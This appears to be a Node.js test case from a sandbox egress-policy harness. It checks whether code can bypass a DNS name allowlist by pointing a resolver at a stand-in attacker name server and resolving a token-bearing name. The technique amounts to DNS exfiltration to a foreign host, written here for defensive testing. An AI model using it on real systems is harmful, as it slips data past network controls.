// Another resolver
// Sets an attacker's name server for c-ares and asks for an allowed name.
// policy: allowed-names
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
const dns = require('dns');

module.exports = async (at) => {
  const resolver = new dns.Resolver();
  resolver.setServers([at.FOREIGN_RESOLVER]);
  return at.called((done) => resolver.resolve4(`${at.token}.good.test`, done));
};
